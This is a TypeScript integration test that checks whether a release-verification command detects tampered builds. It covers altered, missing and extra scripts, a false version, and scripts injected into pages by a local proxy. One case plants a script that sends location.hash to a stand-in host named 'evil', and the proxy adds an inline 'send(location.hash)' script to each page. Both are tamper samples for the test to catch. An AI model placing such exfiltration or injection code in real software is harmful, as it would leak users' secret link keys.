// `npm run test:long -- verify`: starts a release, then changed copies of it, each as a server of its own, and asks
// `slipway verify` about them. Run by hand with archives: a release, and an older one which is a server, too.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { Readable } from 'node:stream';
import { CommandHome } from '../../testing/people/cli';
import { ServerProcess } from '../../testing/server/server-process';
import { admin, freePort } from '../../testing/server/test-server';
import { newToken } from './cli-token';

type Found = { code: number | null; rows: string[] };
type Case = { about: string; change: (release: string) => void; rows: RegExp[] };

const home = fs.mkdtempSync('/var/tmp/slipway-verify-');
const command = new CommandHome();
const port = await freePort();
const url = `http://127.0.0.1:${port}`;
const [archive = makeRelease(), older] = process.argv.slice(2);
const say = (line: string) => process.stdout.write(`${line}\n`);

function makeRelease(): string {
  execFileSync(process.execPath, ['scripts/release.mjs', process.arch], { stdio: 'inherit' });
  const name = fs.readdirSync('release').find((file) => file.endsWith('.tar.gz')) ?? '';
  return path.resolve('release', name);
}

function unpack(file: string, name: string): string {
  const folder = path.join(home, name);
  fs.mkdirSync(folder);
  execFileSync('tar', ['-xzf', file, '--strip-components=1', '-C', folder]);
  return folder;
}

/** By hard links: who changes a file puts another one in its place. */
function copyOf(release: string, name: string): string {
  const folder = path.join(home, name);
  execFileSync('cp', ['-al', release, folder]);
  return folder;
}

function replace(file: string, change: (bytes: Buffer) => Buffer | string): void {
  const bytes = fs.readFileSync(file);
  fs.rmSync(file);
  fs.writeFileSync(file, change(bytes));
}

async function serve<T>(release: string, use: () => Promise<T>): Promise<T> {
  const server = new ServerProcess({
    command: [path.join(release, 'start.mjs')],
    cwd: home,
    env: {
      PORT: String(port),
      BASE_URL: url,
      DATA_DIR: path.join(home, 'data', path.basename(release)),
      ADMIN_LOGIN: admin.login,
      ADMIN_PASSWORD: admin.password,
    },
  });
  try {
    await server.says('is ready');
    return await use();
  } finally {
    server.signal('SIGTERM');
    await server.exit;
  }
}

async function verify(address: string, ...release: string[]): Promise<Found> {
  const flags = release.flatMap((file) => ['--release', file]);
  const { code, out, err } = await command.run(['--json', 'verify', address, ...flags]);
  if (!out) throw new Error(`Nothing was compared: ${err}`);
  const { differences } = JSON.parse(out) as { differences: { what: string; where: string }[] };
  return { code, rows: differences.map(({ what, where }) => `${what} ${where}`) };
}

function check({ code, rows }: Found, about: string, wanted: RegExp[]): void {
  const isAsWanted =
    code === (wanted.length > 0 ? 1 : 0) &&
    rows.length >= wanted.length &&
    rows.every((row) => wanted.some((pattern) => pattern.test(row))) &&
    wanted.every((pattern) => rows.some((row) => pattern.test(row)));
  const told =
    rows.length > 3 ? `${rows.slice(0, 2).join(', ')} and ${rows.length - 2} more` : rows.join(', ');
  if (!isAsWanted) throw new Error(`${about}: exit status ${code}, ${rows.join('\n')}`);
  say(`✓ ${about}: ${told || 'nothing differs'}`);
}

const manifestOf = (release: string) => path.join(release, '.next/build-manifest.json');
const chunks = '.next/static/chunks';
/** Scripts that each page loads. */
function chunksOf(release: string): [string, string] {
  const { rootMainFiles } = JSON.parse(fs.readFileSync(manifestOf(release), 'utf8'));
  return rootMainFiles.slice(0, 2).map((file: string) => path.join(release, '.next', file));
}
const oneByte = (bytes: Buffer) =>
  Buffer.concat([bytes.subarray(0, -1), Buffer.from([(bytes.at(-1) ?? 0) ^ 1])]);
const sayVersion = (release: string, version: string) =>
  replace(path.join(release, 'package.json'), (bytes) =>
    `${bytes}`.replace(/"version": "[^"]+"/, `"version": "${version}"`),
  );

const cases: Case[] = [
  {
    about: 'one byte of a script',
    change: (release) => replace(chunksOf(release)[0], oneByte),
    rows: [/^changed \/_next\/static\/chunks\/[\w-]+\.js$/],
  },
  {
    about: 'another script, packed alone',
    change: (release) => fs.renameSync(`${chunksOf(release)[1]}.br`, `${chunksOf(release)[0]}.br`),
    rows: [/^changed \/_next\/static\/chunks\/[\w-]+\.js$/],
  },
  {
    about: 'a script less',
    change: (release) => [fs.rmSync(chunksOf(release)[1]), fs.rmSync(`${chunksOf(release)[1]}.br`)],
    rows: [/^missing \/_next\/static\/chunks\/[\w-]+\.js$/],
  },
  {
    about: 'a script more, which pages load',
    change: (release) => {
      fs.writeFileSync(path.join(release, chunks, 'more.js'), 'fetch("//evil/" + location.hash)');
      replace(manifestOf(release), (bytes) =>
        `${bytes}`.replace(/"rootMainFiles": \[/, '$& "static/chunks/more.js",'),
      );
    },
    rows: [/^not of the release \/app\/login: \/_next\/static\/chunks\/more\.js$/],
  },
  {
    about: 'a version that it isn’t',
    change: (release) => sayVersion(release, '99.0.0'),
    rows: [/^version 99\.0\.0 \(/],
  },
];

/** A line that puts a script into each page on its way. */
async function throughInjector<T>(use: (address: string) => Promise<T>): Promise<T> {
  const injector = http.createServer(async (req, res) => {
    const headers = { 'user-agent': 'x', accept: req.headers.accept ?? '', 'accept-encoding': 'identity' };
    const answer = await fetch(url + req.url, { headers, redirect: 'manual' });
    const type = answer.headers.get('content-type') ?? '';
    const policy = answer.headers.get('content-security-policy') ?? '';
    res.writeHead(answer.status, { 'content-type': type, 'content-security-policy': policy });
    if (!type.startsWith('text/html') || !answer.body) return void Readable.from(answer.body ?? []).pipe(res);
    const [, nonce] = /'nonce-([^']+)'/.exec(policy) ?? [];
    res.end(
      (await answer.text()).replace(
        '</body>',
        `<script nonce="${nonce}">send(location.hash)</script></body>`,
      ),
    );
  });
  await new Promise<void>((resolve) => injector.listen(0, '127.0.0.1', resolve));
  try {
    return await use(`http://127.0.0.1:${(injector.address() as AddressInfo).port}`);
  } finally {
    injector.close();
  }
}

async function sealedLink(): Promise<string> {
  const file = command.write('a.txt', 'words');
  const env = { SLIPWAY_URL: url, SLIPWAY_TOKEN: await newToken(url) };
  const { out, err } = await command.run(['send', '--seal', file], { env });
  const [link] = /http\S+#k=\S+/.exec(out) ?? [];
  if (!link) throw new Error(`No link was printed: ${out}${err}`);
  return link;
}

async function verifyAll(): Promise<void> {
  const good = unpack(archive, 'good');
  const list = path.join(good, 'public/served.sha256');
  await serve(good, async () => {
    check(await verify(url, archive), 'the release itself, by its archive', []);
    check(await verify(url, list), 'by its list', []);
    check(await verify(url), 'by the server’s own list', []);
    check(await verify(await sealedLink(), archive), 'a sealed link’s page', []);
    const injected = await throughInjector((address) => verify(address, archive));
    check(injected, 'a script put into pages on their way', [
      /^not of the release \/app\/login: inline script: send/,
      /^changed \/pdf\/viewer\.html$/,
    ]);
  });
  for (const { about, change, rows } of cases) {
    const changed = copyOf(good, about.replaceAll(' ', '-'));
    change(changed);
    check(await serve(changed, () => verify(url, archive)), about, rows);
  }
  if (!older) return;
  const old = unpack(older, 'older');
  const files = [/^changed /, /^missing /, /^not of the release \/app\/login: /];
  check(await serve(old, () => verify(url, archive)), 'an older build', [...files, /^version /]);
}

try {
  await verifyAll();
} finally {
  command.remove();
  fs.rmSync(home, { recursive: true, force: true });
}
